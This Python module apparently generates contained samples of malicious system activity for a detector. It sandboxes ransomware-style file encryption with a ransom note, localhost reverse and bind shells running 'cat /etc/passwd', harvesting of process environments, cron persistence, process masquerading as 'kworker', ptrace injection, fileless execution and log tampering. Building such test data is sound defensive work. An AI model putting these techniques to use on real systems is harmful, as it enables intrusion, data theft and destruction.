"""What everyday work should not look like. Every function takes a seeded random generator. Nothing leaves this machine, only files of the current folder are
changed, and calls that would change the machine are made so that they fail."""

import ctypes
import hashlib
import os
import resource
import select
import signal
import socket
import threading
import time

from common import begin, files, sink

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    """A system call by its number (x86-64)."""
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))


def encrypt(rng):
    names = files(rng, least=20, most=60)
    begin()
    key = rng.randbytes(32)
    for name in os.listdir("."):
        if name not in [os.path.basename(n) for n in names]:
            continue
        fd = os.open(name, os.O_RDWR)
        data = os.read(fd, 1 << 20)
        os.lseek(fd, 0, os.SEEK_SET)
        os.write(fd, bytes(a ^ b for a, b in zip(data, (key * (len(data) // 32 + 1))[: len(data)])))
        os.close(fd)
        os.rename(name, name + ".locked")
    with open("READ_ME.txt", "w") as f:
        f.write("pay")


def shell(rng):
    listener = socket.create_server(("127.0.0.1", 0))
    for _ in range(rng.randint(4, 10)):
        s = socket.socket()
        s.connect(listener.getsockname())
        peer, _ = listener.accept()
        child = os.fork()
        if child == 0:
            for fd in range(3):
                os.dup2(s.fileno(), fd)
            os.execv("/bin/sh", ["sh", "-c", rng.choice(["id; uname -a", "cat /etc/passwd", "ls /root /etc", "whoami; hostname"])])
        s.close()
        peer.settimeout(2)
        while peer.recv(4096):
            pass
        os.waitpid(child, 0)
        peer.close()


def scan(rng):
    base = rng.randint(20000, 60000)
    for port in range(base, base + rng.randint(100, 400)):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", port))
        except OSError:
            pass
        if rng.random() < 0.5:
            select.select([], [s], [], 0)
        s.close()


def escalate(rng):
    for _ in range(rng.randint(20, 60)):
        step = rng.randint(0, 7)
        try:
            if step == 0:
                os.setresuid(0, 0, 0)
            elif step == 1:
                os.setresgid(0, 0, 0)
            elif step == 2:
                os.setgroups([])
            elif step == 3:
                open("/etc/shadow", "rb").close()
            elif step == 4:
                os.stat(rng.choice(["/usr/bin/sudo", "/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount"]))
            elif step == 5:
                os.open("/proc/kcore", os.O_RDONLY)
            elif step == 6:
                os.chmod(".", 0o755)
            else:
                resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        except OSError:
            pass


def harvest(rng):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for pid in [p for p in os.listdir("/proc") if p.isdigit()][: rng.randint(20, 60)]:
        for name in ("cmdline", "environ", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb", buffering=0) as f:
                    data = f.read(4096)
                s.sendto(data[:512] or b"-", ("127.0.0.1", 9))
            except OSError:
                pass


def mine(rng):
    def work():
        for _ in range(rng.randint(60, 200)):
            hashlib.sha256(b"x" * 2000).digest()
            os.sched_yield()
            time.sleep(0)

    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    threads = [threading.Thread(target=work) for _ in range(3)]
    for t in threads:
        t.start()
    for _ in range(rng.randint(20, 60)):
        s.sendto(b"share", ("127.0.0.1", 9))
        os.sched_yield()
    for t in threads:
        t.join()


def fork_flood(rng):
    for _ in range(rng.randint(30, 90)):
        child = os.fork()
        if child == 0:
            os._exit(0)
        if rng.random() < 0.3:
            os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def wipe(rng):
    names = files(rng, least=20, most=50)
    begin()
    for name in names:
        fd = os.open(name, os.O_WRONLY)
        size = os.fstat(fd).st_size
        for _ in range(3):
            os.lseek(fd, 0, os.SEEK_SET)
            os.write(fd, bytes(size))
            os.fsync(fd)
        os.ftruncate(fd, 0)
        os.close(fd)
        os.unlink(name)


def beacon(rng):
    port, child = sink()
    begin()
    for _ in range(rng.randint(15, 50)):
        time.sleep(rng.uniform(0.0005, 0.003))
        s = socket.socket()
        s.connect(("127.0.0.1", port))
        s.send(rng.randbytes(rng.randint(16, 64)))
        s.close()
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


def bind_shell(rng):
    listener = socket.create_server(("127.0.0.1", 0))
    begin()
    for _ in range(rng.randint(4, 12)):
        client = socket.create_connection(listener.getsockname())
        peer, _ = listener.accept()
        peer.getpeername()
        child = os.fork()
        if child == 0:
            os.setsid()
            for fd in range(3):
                os.dup2(peer.fileno(), fd, inheritable=True)
            os.chdir("/")
            os.execv("/bin/sh", ["sh", "-i"])
        peer.close()
        client.sendall(rng.choice([b"id\n", b"uname -a\n", b"ls /\n"]) + b"exit\n")
        client.settimeout(2)
        try:
            while client.recv(4096):
                pass
        except OSError:
            pass
        os.waitpid(child, 0)
        client.close()


def brute(rng):
    port, child = sink()
    begin()
    for i in range(rng.randint(40, 150)):
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(b"LOGIN root %d\r\n" % i)
        s.shutdown(socket.SHUT_WR)
        s.recv(64)
        s.close()
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


def daemonise(rng):
    """Hides: double forks, other names, sessions of its own, closes what it has, asks whether it is traced, and removes what it came from."""
    for i in range(rng.randint(6, 14)):
        with open(f"x{i}", "wb") as f:
            f.write(b"#!/bin/sh\n")
        child = os.fork()
        if child == 0:
            os.setsid()
            if os.fork() == 0:
                os.umask(0)
                name = ctypes.create_string_buffer(b"kworker/0:1")
                libc.prctl(15, name, 0, 0, 0)
                libc.prctl(4, 0, 0, 0, 0)
                call(101, 0, 0, 0, 0)
                for fd in range(3, rng.randint(20, 60)):
                    try:
                        os.close(fd)
                    except OSError:
                        pass
                os.unlink(f"x{i}")
                for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGCHLD):
                    signal.signal(number, signal.SIG_IGN)
            os._exit(0)
        os.waitpid(child, 0)


def encrypt_copy(rng):
    """Encrypts into new files, with a key of its own for each, and removes the old ones."""
    names = files(rng, least=20, most=60)
    begin()
    for name in names:
        key = os.getrandom(32)
        with open(name, "rb") as f:
            data = f.read()
        fd = os.open(name + ".enc", os.O_WRONLY | os.O_CREAT, 0o600)
        for at in range(0, len(data), 4096):
            os.write(fd, bytes(a ^ b for a, b in zip(data[at : at + 4096], key * 128)))
        os.fsync(fd)
        os.close(fd)
        os.unlink(name)


def escape(rng):
    """Out of a container: namespaces, roots and mounts, each with arguments that fail."""
    nowhere = ctypes.create_string_buffer(b"/nowhere")
    for _ in range(rng.randint(30, 80)):
        step = rng.randint(0, 7)
        if step == 0:
            call(308, 999, 0)
        elif step == 1:
            call(155, nowhere, nowhere)
        elif step == 2:
            call(165, nowhere, nowhere, nowhere, 0, 0)
        elif step == 3:
            call(272, 1)
        elif step == 4:
            call(161, nowhere)
        elif step == 5:
            call(304, -1, 0, 0)
        elif step == 6:
            call(166, nowhere, 0)
        else:
            try:
                os.readlink(f"/proc/1/ns/{rng.choice(['mnt', 'pid', 'net'])}")
            except OSError:
                pass


def exfiltrate(rng):
    for i in range(rng.randint(2, 5)):
        os.makedirs(f"home/d{i}")
        files(rng, f"home/d{i}", 4, 12)
    port, child = sink()
    begin()
    s = socket.create_connection(("127.0.0.1", port))
    for folder, _, names in os.walk("home"):
        for name in names:
            fd = os.open(os.path.join(folder, name), os.O_RDONLY)
            while data := os.read(fd, 4096):
                s.sendall(data)
            os.close(fd)
    s.close()
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)


def fileless(rng):
    """Programs that never lie in a file: a memory file, written and executed."""
    with open("/bin/true", "rb") as f:
        image = f.read()
    for _ in range(rng.randint(5, 15)):
        child = os.fork()
        if child == 0:
            fd = os.memfd_create("a", 0)
            for at in range(0, len(image), 4096):
                os.write(fd, image[at : at + 4096])
            os.fchmod(fd, 0o700)
            os.execve(f"/proc/self/fd/{fd}", ["a"], {})
        os.waitpid(child, 0)


def flood(rng):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for i in range(rng.randint(300, 1200)):
        s.sendto(b"x" * 32, ("127.0.0.1", 9 + i % 5))


def inject(rng):
    """Writes into another process as a debugger would."""
    for _ in range(rng.randint(3, 8)):
        child = os.fork()
        if child == 0:
            while True:
                time.sleep(0.01)
        place = ctypes.create_string_buffer(64)
        with open(f"/proc/{child}/maps") as f:
            f.readline()
        call(101, 16, child, 0, 0)
        vec = (ctypes.c_ulong * 2)(ctypes.addressof(place), 64)
        for _ in range(rng.randint(4, 16)):
            call(101, 2, child, ctypes.addressof(place), place)
            call(311, child, vec, 1, vec, 1, 0)
            call(310, child, vec, 1, vec, 1, 0)
        call(101, 17, child, 0, 0)
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def persist(rng):
    """Puts itself where it starts again, and sets the times of files back."""
    for folder in ("etc/cron.d", "home/.config/autostart", "etc/systemd"):
        os.makedirs(folder)
    begin()
    for i in range(rng.randint(10, 30)):
        path = rng.choice(["etc/cron.d", "home/.config/autostart", "etc/systemd"]) + f"/u{i}"
        before = os.stat("/bin/sh")
        fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o644)
        os.write(fd, b"* * * * * root /tmp/.x\n")
        os.fchmod(fd, 0o755)
        os.close(fd)
        os.utime(path, (before.st_atime, before.st_mtime))
        if rng.random() < 0.5:
            os.symlink("/tmp/.x", path + ".lnk")


def race(rng):
    """Exchanges a file for a link while somebody looks at it."""
    files(rng, least=2, most=3)
    begin()
    for _ in range(rng.randint(50, 150)):
        with open("victim", "w"):
            pass
        os.access("victim", os.R_OK)
        os.unlink("victim")
        os.symlink("/etc/passwd", "victim")
        os.rename("victim", "other")
        os.unlink("other")


def rootkit(rng):
    """Modules and programs into the kernel, with arguments that it refuses."""
    junk = ctypes.create_string_buffer(rng.randbytes(128), 128)
    name = ctypes.create_string_buffer(b"no_such_module")
    for _ in range(rng.randint(25, 70)):
        step = rng.randint(0, 5)
        if step == 0:
            call(175, junk, 128, name)
        elif step == 1:
            call(313, -1, name, 0)
        elif step == 2:
            call(176, name, 2048)
        elif step == 3:
            call(321, 9999, junk, 8)
        elif step == 4:
            try:
                os.open("/dev/kmem", os.O_RDWR)
            except OSError:
                pass
        else:
            with open("/proc/kallsyms") as f:
                f.readline()


def spray(rng):
    """Fills memory that is writable and executable, as exploits prepare it."""
    libc.mmap.restype = ctypes.c_void_p
    for _ in range(rng.randint(40, 150)):
        size = 4096 * rng.randint(1, 16)
        at = libc.mmap(None, ctypes.c_size_t(size), 3, 0x22, -1, 0)
        call(10, at, size, 7)
        call(28, at, size, rng.choice([4, 8, 12]))
        if rng.random() < 0.3:
            call(11, at, size)


def tamper(rng):
    """Cuts what was logged."""
    for i in range(rng.randint(10, 30)):
        with open(f"log{i}", "wb") as f:
            f.write(rng.randbytes(rng.randint(1000, 9000)))
    begin()
    for i in range(len(os.listdir("."))):
        try:
            before = os.stat(f"log{i}")
        except OSError:
            continue
        fd = os.open(f"log{i}", os.O_RDWR)
        kept = os.read(fd, rng.randint(1, 900))
        os.ftruncate(fd, 0)
        os.lseek(fd, 0, os.SEEK_SET)
        os.write(fd, kept)
        os.close(fd)
        os.utime(f"log{i}", (before.st_atime, before.st_mtime))


ABNORMAL = {f.__name__: f for f in (beacon, bind_shell, brute, daemonise, encrypt, encrypt_copy, escalate, escape, exfiltrate, fileless, flood, fork_flood, harvest, inject, mine, persist, race, rootkit, scan, shell, spray, tamper, wipe)}
